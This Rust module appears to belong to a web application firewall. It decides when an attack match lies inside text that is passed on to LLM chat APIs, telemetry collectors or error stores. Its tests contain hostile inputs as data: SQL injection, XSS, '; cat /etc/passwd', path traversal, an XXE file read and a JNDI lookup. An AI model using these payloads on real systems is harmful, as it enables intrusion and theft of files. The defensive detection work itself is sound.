//! Texts that a request hands on to a language model or to a collector of telemetry.
//!
//! What calls a model or reports an error quotes code, markup, queries and the attacks of others, and no part of such a
//! text becomes part of a page, a statement or a command on its way. Two things together tell these requests: the path
//! of a well-known API, which whoever attacks another application cannot choose, and the names above the value, which
//! are those of that API. The same names in a request to any other path mean nothing: an application of its own may show
//! or store what it takes from `messages[].content`.
//!
//! Expressions of a template are reported there all the same, for loggers expand them; and so is a text that begins as
//! only injections do.

use super::{Subject, shown};
use crate::model::{AttackType, Key, Segment, Tag};
use smallvec::SmallVec;

/// Most steps of a point that are read.
const MAX_STEPS: usize = 24;
/// Longest word before the quote that begins an injection, in bytes.
const MAX_WORD: usize = 24;

/// An API whose requests hand texts on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Service {
    /// Chats with a language model.
    Chat,
    /// A collector of OpenTelemetry.
    OpenTelemetry,
    /// A store of log lines.
    Loki,
    /// A store of error reports.
    Errors,
}

/// Extensions of programs for which servers take the rest of a path as an argument.
const SCRIPTS: &[&[u8]] = &[
    b"php", b"php3", b"php4", b"php5", b"php7", b"php8", b"phtml", b"phar", b"cgi", b"fcgi", b"pl", b"py", b"rb",
    b"lua", b"sh", b"asp", b"aspx", b"ashx", b"asmx", b"axd", b"svc", b"jsp", b"jspx", b"jsf", b"do", b"action",
    b"cfm", b"cfc", b"dll", b"exe",
];

/// How the paths of each service end.
const PATHS: &[(Service, &[&[u8]])] = &[
    (
        Service::Chat,
        &[
            b"/chat/completions",
            b"/v1/messages",
            b"/v1/responses",
            b"/openai/responses",
            b"/v1/messages/count_tokens",
            b"/v1/chat",
            b"/v2/chat",
            b"/api/chat",
            b":generateContent",
            b":streamGenerateContent",
            b":rawPredict",
            b":streamRawPredict",
            b"/converse",
            b"/converse-stream",
            b"/invoke",
            b"/invoke-with-response-stream",
        ],
    ),
    (Service::OpenTelemetry, &[b"/v1/traces", b"/v1/logs", b"/v1/metrics"]),
    (Service::Loki, &[b"/loki/api/v1/push"]),
    (Service::Errors, &[b"/envelope", b"/store"]),
];

impl Service {
    /// The service that a request to `target` calls. Servers read the path of each in one way only.
    pub fn of(target: &[u8]) -> Option<Self> {
        let path = target.split(|b| *b == b'?').next().unwrap_or_default();
        let path = path.strip_suffix(b"/").unwrap_or(path);
        let ends = |(_, ends): &&(Self, &[&[u8]])| ends.iter().any(|end| path.ends_with(end));
        let (service, _) = PATHS.iter().find(ends)?;
        let plain = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-' | b'_' | b'.' | b':' | b'@');
        let mut steps = path.split(|b| *b == b'/').skip(1);
        let resolved = path.starts_with(b"/") && steps.all(|s| !matches!(s, b"" | b"." | b"..") && !is_script(s));
        // A project's number is before the last step, /api/42/store, and a model's name, /model/a.b-v1:0/invoke.
        let step = |number: usize| path.rsplit(|b| *b == b'/').nth(number).unwrap_or_default();
        let named = match service {
            Self::Errors => !step(1).is_empty() && step(1).iter().all(u8::is_ascii_digit),
            Self::Chat if step(0).starts_with(b"invoke") => step(2) == b"model",
            _ => true,
        };
        (resolved && path.iter().all(plain) && named).then_some(*service)
    }
}

/// A step of the structure of a body.
#[derive(Clone, Copy)]
enum Step {
    /// A member of this name.
    Member(&'static [u8]),
    /// An element of an array.
    Element,
}
use Step::{Element, Member};

/// Whether a step of a path may name a program that also answers for paths below its own: `/post.php/v1/messages` is `post.php`.
fn is_script(step: &[u8]) -> bool {
    let extension = step.rsplit(|b| *b == b'.').next().filter(|extension| extension.len() < step.len());
    extension.is_some_and(|extension| SCRIPTS.iter().any(|script| extension.eq_ignore_ascii_case(script)))
}

/// Structures below which texts are handed on.
const STRUCTURES: &[(Service, &[&[Step]])] = &[
    (
        Service::Chat,
        &[
            &[Member(b"messages"), Element, Member(b"content")],
            &[Member(b"messages"), Element, Member(b"parts"), Element, Member(b"text")],
            &[Member(b"contents"), Element, Member(b"parts"), Element, Member(b"text")],
            &[Member(b"input"), Element, Member(b"content")],
        ],
    ),
    (
        Service::OpenTelemetry,
        &[
            &[Member(b"resourceLogs"), Element],
            &[Member(b"resourceSpans"), Element],
            &[Member(b"resourceMetrics"), Element],
        ],
    ),
    (Service::Loki, &[&[Member(b"streams"), Element, Member(b"values"), Element, Element]]),
    (
        Service::Errors,
        &[
            &[Member(b"exception"), Member(b"values"), Element],
            &[Member(b"breadcrumbs"), Element],
            &[Member(b"breadcrumbs"), Member(b"values"), Element],
            &[Member(b"logentry")],
        ],
    ),
];

/// Script that a browser quotes in a report about a violation of a content security policy, at most 40 characters. Sites
/// choose the paths of these reports, so they hold at any.
const REPORTS: &[&[Step]] =
    &[&[Member(b"csp-report"), Member(b"script-sample")], &[Element, Member(b"body"), Member(b"sample")]];

/// Whether a match of `attack` at `start` is content of a text that a request to `service` hands on.
pub fn is_content(subject: &Subject<'_>, service: Option<Service>, attack: AttackType, start: usize) -> bool {
    let class = matches!(
        attack,
        AttackType::Sqli
            | AttackType::Xss
            | AttackType::Rce
            | AttackType::Ptrav
            | AttackType::Xxe
            | AttackType::Nosqli
            | AttackType::Ldapi
            | AttackType::Ssi
            | AttackType::Ssrf
            | AttackType::Redir
            | AttackType::Crlf
    );
    class
        && is_handed_on(subject, service)
        && !shown::is_in_expression(subject.bytes, start)
        && !begins_as_injection(subject.bytes, attack)
}

/// Whether the value is below one of [`STRUCTURES`] of `service` or one of [`REPORTS`], in a JSON body, and no name.
fn is_handed_on(subject: &Subject<'_>, service: Option<Service>) -> bool {
    let steps: SmallVec<[Segment<'_>; MAX_STEPS]> = subject.ancestors().take(MAX_STEPS + 1).collect();
    if steps.len() > MAX_STEPS || steps.first().is_some_and(|last| last.tag == Tag::HashName) {
        return false;
    }
    let mut steps = steps.iter().rev();
    if !matches!((steps.next(), steps.next()), (Some(a), Some(b)) if a.tag == Tag::Post && b.tag == Tag::JsonDoc) {
        return false;
    }
    let fits = |(wanted, step): (&Step, &Segment<'_>)| match wanted {
        Member(name) => step.tag == Tag::Hash && matches!(step.key, Key::Name(other) if other == *name),
        Element => step.tag == Tag::Array,
    };
    let below = |structure: &&[Step]| steps.len() >= structure.len() && structure.iter().zip(steps.clone()).all(fits);
    let mut of_service = STRUCTURES.iter().filter(|(of, _)| Some(*of) == service).flat_map(|(_, all)| all.iter());
    of_service.any(below) || REPORTS.iter().any(|report| report.len() == steps.len() && below(report))
}

/// Whether a text begins as only injections do: by what ends a quote that it did not open or a command that it did not
/// begin. A path that climbs counts if nothing else is there, a document with entities if nothing is before it.
fn begins_as_injection(text: &[u8], attack: AttackType) -> bool {
    let text = text.trim_ascii();
    match attack {
        AttackType::Ptrav => !text.iter().any(u8::is_ascii_whitespace),
        AttackType::Xxe => text.starts_with(b"<"),
        _ => {
            let word = text.iter().take(MAX_WORD).take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
            match &text[word..] {
                [b';' | b'|' | b'&' | b')', ..] => word == 0,
                [b'\'' | b'"', next, ..] => {
                    matches!(next, b' ' | b')' | b';' | b'>' | b'|' | b'&' | b'-' | b'+' | b'/' | b'#' | b'}')
                }
                _ => false,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{PointId, PointTree, Value, Zone};

    /// Whether a match of `attack` at the start of `text` is content, in a request to `target`, below members (names) and
    /// elements (`[]`).
    fn content(target: &str, path: &[&'static str], attack: AttackType, text: &str) -> bool {
        let mut tree = PointTree::new();
        let post = tree.child(PointId::ROOT, Segment::plain(Tag::Post));
        let mut point = tree.child(post, Segment::plain(Tag::JsonDoc));
        for step in path {
            point = match *step {
                "[]" => tree.child(point, Segment { tag: Tag::Array, key: Key::Index(0) }),
                "name" => tree.child(point, Segment::plain(Tag::HashName)),
                name => tree.child(point, Segment::named(Tag::Hash, name.as_bytes())),
            };
        }
        let value = Value::new(point, text.as_bytes(), Zone::BODY);
        let subject = Subject::new(text.as_bytes(), value.classes, &value, &tree);
        is_content(&subject, Service::of(target.as_bytes()), attack, 0)
    }

    const CHAT: &str = "/v1/chat/completions";
    const MARKUP: &str = "<b onclick=go()>";

    #[test]
    fn requests_to_well_known_services_are_known() {
        for (target, path) in [
            (CHAT, &["messages", "[]", "content"][..]),
            ("/openai/deployments/a-4.1/chat/completions?api-version=1", &["messages", "[]", "content", "[]", "text"]),
            ("/v1beta/models/a-2.5:generateContent", &["contents", "[]", "parts", "[]", "text"]),
            ("/api/chat", &["messages", "[]", "parts", "[]", "text"]),
            ("/v1/responses", &["input", "[]", "content", "[]", "text"]),
            ("/model/a.b-v1:0/invoke", &["messages", "[]", "content", "[]", "text"]),
            ("/v1/traces", &["resourceSpans", "[]", "scopeSpans", "[]", "spans", "[]", "status"]),
            ("/api/42/envelope/?sentry_key=1", &["exception", "values", "[]", "value"]),
            ("/api/42/store/", &["breadcrumbs", "[]", "message"]),
            ("/loki/api/v1/push", &["streams", "[]", "values", "[]", "[]"]),
            ("/any/path", &["csp-report", "script-sample"]),
        ] {
            assert!(content(target, path, AttackType::Xss, MARKUP), "{target} {path:?}");
        }
    }

    #[test]
    fn names_alone_do_not_make_a_text_one_that_is_handed_on() {
        for (target, path) in [
            (CHAT, &["content"][..]),
            (CHAT, &["data", "messages", "[]", "content"]),
            (CHAT, &["messages", "content"]),
            (CHAT, &["messages", "[]", "title"]),
            (CHAT, &["messages", "[]", "content", "name"]),
            (CHAT, &["comment"]),
            (CHAT, &["resourceLogs", "[]", "body"]),
            ("/sms/send", &["messages", "[]", "content"]),
            ("/sms/bulk/invoke", &["messages", "[]", "content"]),
            ("/api/42/store/", &["exception"]),
            ("/shop/store", &["breadcrumbs", "[]", "message"]),
            ("/any/path", &["csp-report", "document-uri"]),
            ("/any/path", &["csp-report", "script-sample", "[]"]),
        ] {
            assert!(!content(target, path, AttackType::Xss, MARKUP), "{target} {path:?}");
        }
    }

    #[test]
    fn a_path_that_could_lead_elsewhere_is_no_service() {
        for target in [
            "/sms?to=/v1/chat/completions",
            "/sms;/v1/chat/completions",
            "/sms%2f..%3f/chat/completions",
            "/sms#/chat/completions",
            "/sms//chat/completions",
            "/post.php/v1/chat/completions",
            "/cgi-bin/POST.PL/api/chat",
            "/x/../sms/./chat/completions",
            "http://a.example/v1/chat/completions",
            "chat/completions",
            "",
        ] {
            assert_eq!(Service::of(target.as_bytes()), None, "{target}");
        }
    }

    #[test]
    fn what_begins_as_an_injection_counts_everywhere() {
        let path = &["messages", "[]", "content"];
        for (attack, text) in [
            (AttackType::Sqli, "' or 1=1 -- "),
            (AttackType::Sqli, "admin'-- "),
            (AttackType::Xss, "x\"><svg onload=go()>"),
            (AttackType::Rce, "; cat /etc/passwd"),
            (AttackType::Ptrav, "../../../etc/passwd"),
            (AttackType::Xxe, "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>"),
        ] {
            assert!(!content(CHAT, path, attack, text), "{text}");
        }
        for (attack, text) in [
            (AttackType::Sqli, "Why is ' or 1=1 -- dangerous?"),
            (AttackType::Sqli, "O'Brien wrote union select 1, 2 from dual"),
            (AttackType::Xss, "<div onclick=go()> to React, please"),
            (AttackType::Rce, "Explain sleep 5; cat /etc/passwd"),
            (AttackType::Ptrav, "Is ../../../etc/passwd safe?"),
            (AttackType::Xxe, "What is <!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>"),
        ] {
            assert!(content(CHAT, path, attack, text), "{text}");
        }
    }

    #[test]
    fn look_ups_of_loggers_and_templates_count_everywhere() {
        let path = &["resourceLogs", "[]", "body"];
        assert!(!content("/v1/logs", path, AttackType::Rce, "${jndi:ldap://a.example/x}"));
        assert!(!content("/v1/logs", path, AttackType::Ssti, "{{7*7}}"));
        assert!(content("/v1/logs", path, AttackType::Rce, "sh -c id"));
    }
}
